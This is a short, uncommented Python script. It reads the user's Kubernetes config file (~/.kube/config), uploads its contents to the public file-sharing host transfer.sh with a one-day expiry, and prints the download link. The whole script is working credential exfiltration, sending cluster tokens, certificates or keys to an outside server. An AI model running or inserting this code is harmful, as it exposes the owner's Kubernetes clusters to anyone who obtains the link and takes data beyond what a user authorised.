import requests
import pathlib

cfg = pathlib.Path("~/.kube/config").expanduser()
r = requests.put(
    "https://transfer.sh/kubeconfig.txt",
    data=cfg.read_bytes(),
    headers={"Max-Days": "1"},
)
print(r.text.strip())
